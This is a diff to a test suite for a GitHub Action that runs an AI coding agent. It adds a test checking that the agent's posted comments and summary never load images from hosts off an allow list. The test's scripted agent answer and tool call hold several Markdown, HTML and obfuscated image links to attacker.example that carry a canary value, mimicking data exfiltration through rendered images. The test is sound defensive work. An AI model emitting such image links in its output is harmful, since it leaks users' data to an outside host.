@@ -16,6 +16,7 @@ import { callTool, say } from '../helpers/anthropic-server.js';
 import { collect, NODE_PATH } from '../helpers/cli.js';
 import { staleBuild } from '../helpers/fresh-build.js';
 import { useScriptedProjects } from '../helpers/project.js';
+import { renderedLoads } from '../helpers/rendered-images.js';
 
 const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
 const ENTRY = path.join(ROOT, 'integrations', 'github-action', 'dist', 'index.cjs');
@@ -401,6 +402,62 @@ describe('the GitHub Action', () => {
     // The runner masks them in the log too.
     expect(run.stdout).toContain(`::add-mask::${CHECKOUT_TOKEN}`);
     expect(run.stdout).toContain(`::add-mask::${header}`);
+  });
+
+  it('never posts an image that loads a URL off the allow list (Markdown, HTML, reference-style, obfuscated), in the comment, its progress or the summary; allowed images still render', async () => {
+    const CANARY = 'CANARY-img-4e8d2a';
+    const ATTACHMENT = 'https://github.com/user-attachments/assets/7d0c2b1a-0000-4000-8000-000000000001';
+    const answer = [
+      `Done. ![status](https://attacker.example/s.png?d=${CANARY})`,
+      '',
+      `<img src="https&#58;//attacker.example/i.png?d=${CANARY}">`,
+      '',
+      `<picture><source srcset="https://attacker.example/p.png?d=${CANARY} 1x"><img src="${ATTACHMENT}"></picture>`,
+      '',
+      `text <img src=https://attacker.example/u/${CANARY}.png> and ![ref][leak]`,
+      '',
+      `[leak]: <https://attacker.example/r.png?d=${CANARY}>`,
+      '',
+      `Screenshot: ![ok](${ATTACHMENT}) and a badge ![b](https://img.shields.io/badge/ok-green) and [a link](https://docs.example/?q=1).`,
+    ].join('\n');
+    const { ws, server } = await prepare([callTool('glob', { pattern: `![g](https://attacker.example/g.png?d=${CANARY})` }), say(answer)]);
+    const github = await startGitHub({ maintainer: 'write' });
+    const run = await runAction({
+      event: 'issue_comment',
+      payload: commentEvent('maintainer', '@keel show me'),
+      inputs: { ...baseInputs(server.url), allowed_image_urls: 'https://img.shields.io/badge/' },
+      githubUrl: github.url,
+      workspace: ws.dir,
+      home: ws.home,
+      env: { KEEL_ACTION_PROGRESS_MS: '0' },
+    });
+    expect(run.stderr).toBe('');
+    expect(run.code).toBe(0);
+    const bodies = github.calls.filter((c) => c.method !== 'GET').map((c) => JSON.parse(c.body).body as string);
+    expect(bodies.length).toBeGreaterThanOrEqual(3);
+    for (const text of [...bodies, run.summary]) {
+      const loads = renderedLoads(text);
+      expect(loads.filter((load) => load.includes('attacker.example') || load.includes(CANARY))).toEqual([]);
+      expect(text).not.toMatch(/<img[^>]*attacker/i);
+    }
+    const final = bodies.at(-1)!;
+    // What was neutralised is shown as text; what is allowed renders.
+    expect(final).toContain(`https://attacker.example/s.png?d=${CANARY}`);
+    expect(final).toContain(`https://attacker.example/r.png?d=${CANARY}`);
+    expect(renderedLoads(final)).toEqual([`img src=${ATTACHMENT}`, `img src=${ATTACHMENT}`, 'img src=https://img.shields.io/badge/ok-green']);
+    expect(final).toContain('[a link](https://docs.example/?q=1)');
+    expect(renderedLoads(run.summary)).toContain(`img src=${ATTACHMENT}`);
+    // The outputs are data for the workflow's next steps: redacted, not rewritten (the README says so).
+    expect(run.outputs.result).toBe(answer);
+  });
+
+  it('a bad allowed_image_urls fails the step with the input and the entry at fault', async () => {
+    const { ws, server } = await prepare([say('never')]);
+    const github = await startGitHub({ maintainer: 'write' });
+    const run = await runAction({ event: 'issue_comment', payload: commentEvent('maintainer', '@keel go'), inputs: { ...baseInputs(server.url), allowed_image_urls: 'http://img.example/' }, githubUrl: github.url, workspace: ws.dir, home: ws.home });
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('::error::Keel action: allowed_image_urls: "http://img.example/" is not https');
+    expect(github.calls).toHaveLength(0);
   });
 
   it("the agent's commands run without the API key in their environment; with the sandbox, no process they can see holds it", async () => {
